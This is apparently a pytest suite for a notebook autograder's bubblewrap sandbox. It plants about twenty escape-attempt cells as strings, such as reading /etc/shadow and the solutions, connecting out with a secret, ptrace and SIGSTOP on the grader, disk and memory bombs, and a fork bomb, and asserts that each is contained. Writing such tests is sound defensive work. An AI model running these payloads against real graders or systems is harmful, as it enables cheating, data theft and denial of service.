"""Escapes from a graded kernel: each attempt contained, the rest of the class graded as usual.

One course, graded once (2 workers): honest students next to one student per escape
attempt, each the source notebook plus one cell that tries to get out of the sandbox
(:mod:`gradlib_course.sandbox`) -- read the grader's home and files outside the course,
``/etc/shadow``, other students' submissions, the gradebook and the solutions; reach a
TCP service on the grader's ``localhost``, a real PostgreSQL server (over TCP and its
Unix socket) and the outside world; write outside its own folder; find the reference
or the grading workflow; see the grader's environment or processes; signal or trace
the grading process; fill its folder; fork or allocate without bound.

Each cell prints ``ESCAPED <what>`` with the evidence if it got something and
``CONTAINED <what>`` if it did not; the test also checks from outside (the listener
saw no connection, nothing was written, the test's process lives, no process is
left).  Every escaping student must still earn every point of the honest parts.
"""

from __future__ import annotations

import json
import os
import re
import socket
import subprocess
import uuid
from pathlib import Path

import pytest
from gradlib_course.autograde import autograde
from gradlib_course.cgroup import probe as process_limit_probe
from gradlib_course.config import CourseConfig
from gradlib_course.demo import make_course, release_notebook, source_notebook, write_submission
from gradlib_course.notebooks import graded_parts
from gradlib_course.sandbox import probe
from gradlib_course.worker import Limits
from servers import postgres_server

from conftest import REPO
from course_classes import part_scores

pytestmark = pytest.mark.skipif(
    probe() != "bubblewrap", reason="bubblewrap cannot start a sandbox on this machine"
)

ASSIGNMENT = "08-training"
LIMITS = Limits(cell_timeout=20, notebook_timeout=300, memory_mb=1400, disk_mb=32)
SECRET = f"escape-secret-{uuid.uuid4().hex}"
PROCESS_LIMIT = process_limit_probe()

_REPORT = """
def _report(what, ok, evidence=""):
    print(("ESCAPED " if ok else "CONTAINED ") + what + (": " + str(evidence)[:200] if ok else ""))
"""


def _reads(what: str, path) -> str:
    return (
        f"try:\n    _data = open({str(path)!r}, 'rb').read(200)\n"
        f"    _report({what!r}, True, _data)\n"
        f"except OSError as exc:\n    _report({what!r}, False, exc)\n"
    )


def _connects(what: str, family: str, address) -> str:
    return (
        "import socket\n"
        f"_s = socket.socket(socket.{family}, socket.SOCK_STREAM)\n"
        "_s.settimeout(3)\n"
        f"try:\n    _s.connect({address!r})\n    _s.sendall(b'{SECRET}')\n"
        f"    _report({what!r}, True, 'connected')\n"
        f"except OSError as exc:\n    _report({what!r}, False, exc)\n"
        "finally:\n    _s.close()\n"
    )


def _attempts(root: Path, places: dict) -> dict[str, str]:
    """``name -> cell`` of every escape attempt (``places``: what the test planted)."""
    other = root / "submitted" / "perfect" / ASSIGNMENT
    return {
        "grader-home": (
            "import os\n"
            f"try:\n    _names = os.listdir({str(Path.home())!r})\n"
            "except OSError as exc:\n    _names = []\n"
            f"_report('grader-home', {places['home_secret'].name!r} in _names "
            "or any(not n.startswith('.pyenv') for n in _names), _names)\n"
            + _reads("grader-home-secret", places["home_secret"])
        ),
        "outside-secret": _reads("outside-secret", places["outside_secret"]),
        "etc-shadow": _reads("etc-shadow", "/etc/shadow"),
        "other-student": _reads("other-student", next(other.glob("*.ipynb"))),
        "gradebook": _reads("gradebook", root / "gradebook.db"),
        "solutions": _reads("solutions", next((root / "solutions" / ASSIGNMENT).glob("*.ipynb")))
        + _reads("repository-solutions", next((REPO / "solutions" / ASSIGNMENT).glob("*.ipynb"))),
        "workflow": (  # of gradlib_course, the kernel sees its recording package only
            "import os\n"
            "try:\n    import gradlib_course.judge\n"
            "    _report('workflow', True, gradlib_course.judge.__file__)\n"
            "except ImportError as exc:\n    _report('workflow', False, exc)\n"
            "import gradlib_course.recording as _recording\n"
            "_course = os.path.dirname(os.path.dirname(_recording.__file__))\n"
            "_more = sorted(set(os.listdir(_course)) - {'__init__.py', 'recording'})\n"
            "_report('workflow-files', bool(_more), _more)\n"
            + _reads("workflow-source", REPO / "lib" / "gradlib_course" / "judge.py")
            + _reads("samples", REPO / "tests" / "samples" / "cheats.py")
        ),
        "reference": (
            "import inspect, gradlib.train\n"
            "_text = inspect.getsource(gradlib.train.EarlyStopping)\n"
            "_report('reference', 'best_loss' in _text and 'patience' in _text "
            "and 'raise __import__' not in _text, _text[:200])\n"
        ),
        "localhost-tcp": _connects("localhost-tcp", "AF_INET", ("127.0.0.1", places["port"])),
        "postgres-tcp": _connects("postgres-tcp", "AF_INET", ("127.0.0.1", places["pg_port"])),
        "postgres-socket": _connects("postgres-socket", "AF_UNIX", str(places["pg_socket"])),
        "outside-network": (
            "import socket\n"
            "try:\n    _addr = socket.getaddrinfo('pypi.org', 443)\n"
            "    _report('outside-dns', True, _addr[:1])\n"
            "except OSError as exc:\n    _report('outside-dns', False, exc)\n"
            + _connects("outside-connect", "AF_INET", ("151.101.0.223", 443))
        ),
        "write-outside": (
            f"_targets = [{str(root / 'hacked.txt')!r}, "
            f"{str(places['outside_dir'] / 'hacked.txt')!r}, '/usr/hacked.txt']\n"
            "_written = []\n"
            "for _t in _targets:\n"
            "    try:\n        open(_t, 'w').write('x')\n        _written.append(_t)\n"
            "    except OSError:\n        pass\n"
            "_report('write-outside', bool(_written), _written)\n"
        ),
        "runtime-folder": (
            "import os\nfrom ipykernel import get_connection_file\n"
            "_folder = os.path.dirname(get_connection_file())\n"
            "try:\n    open(os.path.join(_folder, 'filler'), 'w').write('x' * 1000)\n"
            "    _report('runtime-folder', True, _folder)\n"
            "except OSError as exc:\n    _report('runtime-folder', False, exc)\n"
        ),
        "environment": (
            "import os\n"
            f"_report('environment', any({SECRET!r} in v for v in os.environ.values()), "
            "sorted(os.environ))\n"
        ),
        "processes": (
            "import os\n_seen = []\n"
            "for _p in os.listdir('/proc'):\n"
            "    if _p.isdigit():\n"
            "        try:\n            _seen.append(open(f'/proc/{_p}/cmdline', 'rb').read())\n"
            "        except OSError:\n            pass\n"
            "_report('processes', any(b'pytest' in c or b'nbgrader' in c or b'dask' in c "
            "for c in _seen), _seen)\n"
        ),
        "signal-grader": (
            "import os, signal, ctypes\n"
            f"_pid = {os.getpid()}\n"
            "try:\n    os.kill(_pid, signal.SIGSTOP)\n    _report('signal-grader', True, _pid)\n"
            "except OSError as exc:\n    _report('signal-grader', False, exc)\n"
            "_libc = ctypes.CDLL(None, use_errno=True)\n"
            "_ok = _libc.ptrace(16, _pid, None, None) == 0  # PTRACE_ATTACH\n"
            "_report('trace-grader', _ok, _pid)\n"
        ),
        "privileges": (
            "import os\n"
            "_caps = open('/proc/self/status').read().split('CapEff:')[1].split()[0]\n"
            "_report('privileges', os.getuid() == 0 or int(_caps, 16) != 0, "
            "(os.getuid(), _caps))\n"
        ),
        "fill-folder": (
            "import os\n_total = 0\n"
            "try:\n"
            "    for _i in range(400):\n"
            "        with open(f'filler-{_i}.bin', 'wb') as _f:\n"
            "            _f.write(b'x' * 2**20)\n"
            "        _total += 2**20\n"
            "    _report('fill-folder', True, _total)\n"
            "except OSError as exc:\n    _report('fill-folder', False, (_total, exc))\n"
            "for _name in os.listdir('.'):\n"
            "    if _name.startswith('filler-'):\n        os.remove(_name)\n"
        ),
        "memory-bomb": (
            "import numpy as np\n_chunks = []\n"
            "try:\n    while True:\n        _chunks.append(np.ones(2**24))\n"
            "except MemoryError:\n    _report('memory-bomb', False, len(_chunks))\n"
            "del _chunks\n"
        ),
        "fork-bomb": "import os\nwhile True:\n    os.fork()\n",
    }


@pytest.fixture(scope="module")
def graded(tmp_path_factory):
    base = tmp_path_factory.mktemp("escape")
    root = make_course(base / "course", [ASSIGNMENT])
    name, src = source_notebook(root, ASSIGNMENT)
    write_submission(root, "perfect", ASSIGNMENT, {f"{name}.ipynb": json.dumps(src)})
    blank = release_notebook(root, ASSIGNMENT)
    write_submission(root, "blank", ASSIGNMENT, {f"{name}.ipynb": json.dumps(blank)})
    outside = base / "outside"
    outside.mkdir()
    home_secret = Path.home() / f".{SECRET}"
    places = {
        "outside_dir": outside,
        "outside_secret": outside / "token.txt",
        "home_secret": home_secret,
    }
    places["outside_secret"].write_text(SECRET)
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen(8)
    listener.setblocking(False)
    places["port"] = listener.getsockname()[1]
    os.environ["GRADLIB_ESCAPE_SECRET"] = SECRET  # the grader's environment
    try:
        home_secret.write_text(SECRET)
        with postgres_server(base / "pg") as server:
            places["pg_port"], places["pg_socket"] = server.port, server.socket
            attempts = _attempts(root, places)
            if not PROCESS_LIMIT:
                attempts.pop("fork-bomb")  # without a pids cgroup it would take the machine
            imports = next(
                i
                for i, c in enumerate(src["cells"])
                if c["metadata"].get("nbgrader", {}).get("grade_id") == "imports"
            )
            for attempt, code in attempts.items():
                nb = json.loads(json.dumps(src))
                cell = {"cell_type": "code", "execution_count": None, "metadata": {},
                        "outputs": [], "source": _REPORT + code}  # fmt: skip
                nb["cells"].insert(imports + 1, cell)
                write_submission(
                    root, f"x-{attempt}", ASSIGNMENT, {f"{name}.ipynb": json.dumps(nb)}
                )
            results = autograde(root, ASSIGNMENT, workers=2, limits=LIMITS, progress=False)
        try:
            connection, _ = listener.accept()
            received = connection.recv(1000)
        except BlockingIOError:
            received = None
    finally:
        del os.environ["GRADLIB_ESCAPE_SECRET"]
        home_secret.unlink(missing_ok=True)
        listener.close()
    config = CourseConfig(root)
    outputs = {}
    for student in attempts:
        path = root / "autograded" / f"x-{student}" / ASSIGNMENT / f"{name}.ipynb"
        cells = json.loads(path.read_text())["cells"]
        printed = cells[imports + 1].get("outputs", [])  # what the attempt itself printed
        outputs[student] = "".join(
            "".join(o["text"]) for o in printed if o.get("output_type") == "stream"
        )
    return {
        "root": root,
        "outside": outside,
        "attempts": attempts,
        "outputs": outputs,
        "received": received,
        "results": {r.student: r for r in results},
        "scores": part_scores(config.db_url, ASSIGNMENT),
        "full": {
            p.grade_id: float(p.points)
            for p in graded_parts(root / "solutions" / ASSIGNMENT / f"{name}.ipynb")
        },
    }


ATTEMPTS = [
    "grader-home", "outside-secret", "etc-shadow", "other-student", "gradebook", "solutions",
    "workflow", "reference", "localhost-tcp", "postgres-tcp", "postgres-socket",
    "outside-network", "write-outside", "runtime-folder", "environment", "processes",
    "signal-grader", "privileges", "fill-folder", "memory-bomb", "fork-bomb",
]  # fmt: skip
# the attempts that end with the kernel alive print what they found
REPORTED = set(ATTEMPTS) - {"fork-bomb"}


def test_the_matrix_is_as_wide_as_promised():
    assert len(ATTEMPTS) >= 12


@pytest.mark.parametrize("attempt", ATTEMPTS)
def test_each_escape_is_contained(graded, attempt):
    if attempt not in graded["attempts"]:
        pytest.skip("no per-kernel process limit on this machine: the fork bomb is not run")
    text = graded["outputs"][attempt]
    assert "ESCAPED" not in text, text
    if attempt in REPORTED:
        assert "CONTAINED" in text, text
    assert SECRET not in text


@pytest.mark.parametrize("attempt", ATTEMPTS)
def test_each_escaping_student_keeps_the_points_of_the_honest_parts(graded, attempt):
    if attempt not in graded["attempts"]:
        pytest.skip("no per-kernel process limit on this machine: the fork bomb is not run")
    assert graded["scores"][f"x-{attempt}"] == pytest.approx(graded["full"]), graded["results"][
        f"x-{attempt}"
    ].log[-2000:]


def test_nothing_reached_or_changed_the_grader_machine(graded):
    assert graded["received"] is None  # the listener on localhost saw no connection
    assert not (graded["root"] / "hacked.txt").exists()
    assert not (graded["outside"] / "hacked.txt").exists()
    assert not Path("/usr/hacked.txt").exists()
    running = subprocess.run(["ps", "-eo", "args"], capture_output=True, text=True).stdout
    assert f"--memory-mb={LIMITS.memory_mb}" not in running  # no kernel left behind


def test_the_rest_of_the_class_is_graded_normally(graded):
    assert graded["scores"]["perfect"] == pytest.approx(graded["full"])
    assert graded["scores"]["blank"] == pytest.approx(dict.fromkeys(graded["full"], 0.0))


def test_every_record_names_the_sandbox(graded):
    for result in graded["results"].values():
        assert result.sandbox == "bubblewrap"
        assert re.search(r"no network.*uid 65534|no network.*user namespace", result.protection)
